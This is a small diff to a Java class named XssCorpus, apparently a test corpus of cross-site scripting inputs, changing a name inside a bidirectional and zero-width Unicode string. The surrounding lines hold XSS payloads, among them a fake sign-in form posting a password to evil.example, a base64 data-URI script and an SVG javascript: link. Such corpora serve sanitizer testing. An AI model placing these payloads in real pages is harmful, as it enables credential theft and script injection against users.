@@ -61,7 +61,7 @@ public final class XssCorpus {
             "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"><button>Sign in</button></form>",
             "<object data=\"https://evil.example/x.swf\"></object>",
             "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-            "\u2066\u2067admin\u2069\u2069 and zero\u200Bwidth\u200Dtext",
+            "\u2066\u2067alice\u2069\u2069 and zero\u200Bwidth\u200Dtext",
             "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>");
 
     private XssCorpus() {
